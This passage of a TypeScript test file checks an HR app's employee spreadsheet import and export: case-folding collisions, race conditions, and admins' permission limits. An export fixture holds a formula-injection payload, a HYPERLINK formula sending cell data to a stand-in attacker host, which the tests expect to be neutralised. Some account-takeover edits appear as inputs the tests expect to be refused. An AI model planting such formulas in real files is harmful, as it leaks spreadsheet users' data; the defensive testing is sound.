      const list = await listEmployees(p.id);
      const leyla = list.find((e) => e.employee_number === '1001')!;
      const kamran = list.find((e) => e.employee_number === '1002')!;
      expect(leyla).toMatchObject({ first_name: 'Leyla', last_name: 'Aliyeva', report_to: { id: kamran.id } });
      expect(kamran).toMatchObject({ first_name: 'Kamran', last_name: 'Quliyev' });

      // A shared formula's other cells without a cached value (as a generator that does not calculate writes them).
      const c = person('formula-c');
      const uncalculated = await xlsx([
        COLUMNS,
        [
          'F-1',
          'Farid',
          { formula: 'PROPER("abbasov")', result: 'Abbasov', shareType: 'shared', ref: 'C2:C3' } as ExcelJS.CellFormulaValue,
          c.email,
          c.username,
        ],
        ['F-2', 'Fidan', { sharedFormula: 'C2' } as ExcelJS.CellSharedFormulaValue, `2${c.email}`, `${c.username}_2`],
      ]);
      const res2 = await refused(p.id, 'people.xlsx', uncalculated);
      expect(res2.statusCode).toBe(422);
      expect(res2.json().errors).toEqual([{ row: 3, column: 'last_name', message: 'This cell holds a formula without a value: type the value instead.' }]);
    });
  });

  describe('usernames and employee numbers as the database compares them (lower())', () => {
    // JavaScript lower-cases the last Σ of a word to ς, PostgreSQL's lower() to σ.
    const greek = (tag: string) => `ΟΔΥΣΣΕΥΣ_${tag}_${run}_${serial}`;
    const folded = (tag: string) => `οδυσσευσ_${tag}_${run}_${serial}`;
    const row = (number: string, username: string, tag: string): Cell[] => [
      number,
      'Odysseus',
      'Laertiades',
      `${tag}-${run}-${serial}@example.com`,
      username,
      '',
      '',
      '',
      '',
      '',
      '',
    ];

    it('a username taken as lower() sees it is refused on its row (422), not a 500', async () => {
      const p = await freshProject();
      expect(greek('x').toLowerCase()).not.toBe(folded('x'));
      const holder = await createAccount(t.deps, acme.companyId);
      await t.deps.db
        .update(accounts)
        .set({ username: folded('taken') })
        .where(eq(accounts.id, holder.id));
      const res = await refused(p.id, 'people.csv', csv([COLUMNS, row('G-1', greek('taken'), 'g1')]));
      expect(res.statusCode, res.body).toBe(422);
      expect(res.json().errors).toEqual([{ row: 2, column: 'username', message: 'A user with that username already exists.' }]);
      // The employee form answers the same for the same pair.
      const form = await acme.inProject(p.id).post('/api/wizard/add-employee/', {
        employee_number: 'G-2',
        first_name: 'Odysseus',
        last_name: 'Laertiades',
        email: `form-${run}-${serial}@example.com`,
        username: greek('taken'),
        password: 'Secret-pass-1',
        role: 'user',
        department: null,
        sub_department: null,
        position: null,
        report_to: null,
      });
      expect(form.statusCode, form.body).toBe(400);
      expect(form.json()).toEqual({ username: ['A user with that username already exists.'] });
    });

    it('two usernames of the file that are one for lower() are duplicates', async () => {
      const p = await freshProject();
      const res = await refused(p.id, 'people.csv', csv([COLUMNS, row('G-1', greek('twice'), 'g1'), row('G-2', folded('twice'), 'g2')]));
      expect(res.statusCode, res.body).toBe(422);
      expect(res.json().errors).toEqual([{ row: 3, column: 'username', message: 'This value already appears on row 2.' }]);
    });

    it('an employee number that lower() folds to an existing one updates that employee', async () => {
      const p = await freshProject();
      const existing = await addEmployee(t.deps, p.c, { number: folded('N'), firstName: 'Old', lastName: 'Name' });
      const res = await send(p.id, 'people.csv', csv([COLUMNS, row(greek('N'), `odysseus_${run}_${serial}`, 'n1')]));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 0, updated: 1 });
      const list = await listEmployees(p.id);
      expect(list.find((e) => e.id === existing.id)).toMatchObject({ employee_number: folded('N'), first_name: 'Odysseus' });
      expect(list).toHaveLength(2);
    });

    it('a username taken between the checks and the write (another import, a form) is refused on its row', async () => {
      const p = await freshProject();
      const racer = person('racer');
      const before = await snapshot(p.id);
      const transaction = t.deps.db.transaction.bind(t.deps.db);
      const spy = vi.spyOn(t.deps.db, 'transaction').mockImplementationOnce((async (...args: Parameters<typeof transaction>) => {
        const other = await createAccount(t.deps, acme.companyId);
        await t.deps.db.update(accounts).set({ username: racer.username.toUpperCase() }).where(eq(accounts.id, other.id));
        return transaction(...args);
      }) as typeof transaction);
      try {
        const res = await send(p.id, 'people.csv', csv([COLUMNS, ['R-1', 'Race', 'Row', racer.email, racer.username, '', '', '', '', '', '']]));
        expect(res.statusCode, res.body).toBe(422);
        expect(res.json().errors).toEqual([{ row: 2, column: 'username', message: 'A user with that username already exists.' }]);
      } finally {
        spy.mockRestore();
      }
      const after = await snapshot(p.id);
      expect(after.rows).toEqual(before.rows);
      expect(after.accounts).toBe(before.accounts + 1); // the racer's
    });
  });

  describe('export', () => {
    /** A project whose employees have formula-like values, an admin and reporting lines. */
    async function exportProject() {
      const p = await freshProject();
      const trap = await addEmployee(t.deps, p.c, {
        number: '=1+1',
        firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        lastName: '+1',
        departmentId: p.engineering.id,
        subDepartmentId: p.backend.id,
        positionId: p.engineer.id,
        reportToId: p.murad.id,
      });
      const at = await addEmployee(t.deps, p.c, {
        number: 'X-2',
        firstName: '@x',
        lastName: '-2',
        departmentId: p.sales.id,
        positionId: p.rep.id,
        reportToId: trap.id,
      });
      const admin = await addEmployee(t.deps, p.c, { role: 'admin', number: 'A-1', firstName: 'Ülviyyə', lastName: 'Şükürova', reportToId: p.murad.id });
      return { ...p, trap, at, admin };
    }

    const expectedRows = (p: Awaited<ReturnType<typeof exportProject>>) => [
      COLUMNS,
      // ordered by employee number; formula-like cells carry a leading apostrophe
      [
        "'=1+1",
        `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
        "'+1",
        p.trap.account.email,
        p.trap.account.username,
        '',
        'user',
        'Engineering',
        'Backend',
        'Engineer',
        'M-1',
      ],
      ['A-1', 'Ülviyyə', 'Şükürova', p.admin.account.email, p.admin.account.username, '', 'admin', '', '', '', 'M-1'],
      ['M-1', 'Murad', 'Huseynov', p.murad.account.email, p.murad.account.username, '', 'user', 'Engineering', '', 'Head of Engineering', ''],
      ['X-2', "'@x", "'-2", p.at.account.email, p.at.account.username, '', 'user', 'Sales', '', 'Sales Rep', "'=1+1"],
    ];

    it('XLSX and CSV carry the same columns and rows, with formula-like cells neutralised', async () => {
      const p = await exportProject();
      const x = await acme.inProject(p.id).get(`${EXPORT}?format=xlsx`);
      expect(x.statusCode).toBe(200);
      expect(x.headers['content-type']).toBe(XLSX_TYPE);
      expect(x.headers['content-disposition']).toBe('attachment; filename="employees.xlsx"');
      const sheet = await readXlsx(x.rawPayload);
      expect(sheet.rows).toEqual(expectedRows(p));
      // Every cell is plain text: nothing a spreadsheet would evaluate.
      expect([...sheet.types].every((type) => type === ExcelJS.ValueType.String || type === ExcelJS.ValueType.Null)).toBe(true);

      const c = await acme.inProject(p.id).get(`${EXPORT}?format=csv`);
      expect(c.statusCode).toBe(200);
      expect(c.headers['content-type']).toMatch(/^text\/csv/);
      expect(c.headers['content-disposition']).toBe('attachment; filename="employees.csv"');
      expect(readCsv(c.rawPayload)).toEqual(expectedRows(p));
    });

    it('exports only the selected project', async () => {
      const p = await exportProject();
      const other = await freshProject();
      const res = await acme.inProject(other.id).get(`${EXPORT}?format=csv`);
      const rows = readCsv(res.rawPayload);
      expect(rows.map((r) => r[0])).toEqual(['employee_number', 'M-1']);
      expect(rows[1]![4]).toBe(other.murad.account.username);
      expect(rows.flat()).not.toContain(p.murad.account.username);
    });

    it.each(['xlsx', 'csv'] as const)('export → import (%s) changes nothing: every row updates, none is created', async (format) => {
      const p = await exportProject();
      const before = await snapshot(p.id);
      const exported = (await acme.inProject(p.id).get(`${EXPORT}?format=${format}`)).rawPayload;
      const res = await send(p.id, `employees.${format}`, exported);
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json()).toEqual({ created: 0, updated: 4 });
      expect(await snapshot(p.id)).toEqual(before);
      // and the file exported afterwards is the same file
      const again = (await acme.inProject(p.id).get(`${EXPORT}?format=csv`)).rawPayload;
      expect(readCsv(again)).toEqual(expectedRows(p));
    });

    it('an admin (not a super admin) round-trips a file that lists admins, but cannot change roles or admins’ sign-in', async () => {
      const p = await exportProject();
      // The super admin is an employee too (exported with the role "admin").
      await t.deps.db
        .insert(employees)
        .values({ companyId: acme.companyId, projectId: p.id, accountId: acme.owner.id, employeeNumber: 'S-1', firstName: 'Owner', lastName: 'Account' });
      const admin = await addEmployee(t.deps, p.c, { role: 'admin', number: 'A-2', firstName: 'Samir', lastName: 'Nəsibov' });
      const adminToken = (await signIn(t, admin.account.username)).access;
      const before = await snapshot(p.id);
      const exported = (await acme.as(adminToken, p.id).get(`${EXPORT}?format=csv`)).rawPayload;
      const rows = readCsv(exported);
      expect(rows.find((r) => r[0] === 'S-1')![COLUMNS.indexOf('role')]).toBe('admin');
      const roundTrip = await send(p.id, 'employees.csv', exported, { as: adminToken });
      expect(roundTrip.statusCode, roundTrip.body).toBe(200);
      expect(roundTrip.json()).toEqual({ created: 0, updated: 6 });
      expect(await snapshot(p.id)).toEqual(before);

      const forbidden = 'You do not have permission to perform this action.';
      const attempts: Array<[string, string, string, string]> = [
        ['M-1', 'role', 'admin', 'Select a valid choice: user.'], // promote a user: the message lists what this admin may give
        ['A-1', 'role', 'user', 'Select a valid choice: admin.'], // demote an admin
        ['A-1', 'password', 'Taken-over-1', forbidden], // take over another admin's account
        ['S-1', 'password', 'Taken-over-1', forbidden], // … or the super admin's
        ['S-1', 'email', `takeover-${run}@example.com`, forbidden],
        ['A-1', 'username', `takeover_${run}`, forbidden],
      ];
      for (const [number, column, value, message] of attempts) {
        const changed = rows.map((r) => [...r]);
        const line = changed.findIndex((r) => r[0] === number);
        changed[line]![COLUMNS.indexOf(column)] = value;
        const res = await refused(p.id, 'employees.csv', csv(changed), { as: adminToken });
        expect(res.statusCode, `${number} ${column}`).toBe(422);
        expect(res.json().errors).toEqual([{ row: line + 1, column, message }]);
      }
      // A new admin from an admin's file is refused too; the super admin may do all of it.
      const newcomer = person('newadmin');
      const withNew = [...rows, ['N-1', 'New', 'Admin', newcomer.email, newcomer.username, '', 'admin', '', '', '', '']];
      const res = await refused(p.id, 'employees.csv', csv(withNew), { as: adminToken });
      expect(res.json().errors).toEqual([{ row: withNew.length, column: 'role', message: 'Select a valid choice: user.' }]);
      const promoted = rows.map((r) => [...r]);
      promoted[promoted.findIndex((r) => r[0] === 'A-1')]![COLUMNS.indexOf('password')] = 'Reset-by-owner-1';
      expect((await send(p.id, 'employees.csv', csv(promoted))).json()).toEqual({ created: 0, updated: 6 });
    });
  });
});
